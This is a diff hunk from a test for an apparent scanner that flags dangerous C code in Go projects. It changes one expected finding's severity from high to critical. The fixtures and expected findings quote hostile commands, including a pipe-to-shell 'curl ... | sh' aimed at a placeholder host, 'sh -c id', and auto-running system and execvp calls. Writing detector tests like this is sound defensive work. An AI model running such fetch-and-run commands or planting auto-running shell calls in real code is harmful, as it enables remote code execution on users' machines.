@@ -74,7 +74,7 @@ test('readContent reads what C includes by name, what runs at the end, and C fun
       'c/c.cc': 'struct T { int run() { return system("id"); } };\nint f() { T t; return t.run(); }\n',
     }),
     [
-      'high cgo a.go:7 Go code calls C.system | curl -s https://example.invalid | sh',
+      'critical cgo a.go:7 Go code calls C.system | curl -s https://example.invalid | sh',
       'critical cgo b/b.cc:1 Setup, which runs without being called, calls execvp | sh -c id sh -c id | sh -c id | sh -c id',
       'critical cgo data/table.inc:1 down, which runs without being called, calls dlsym | system',
     ],
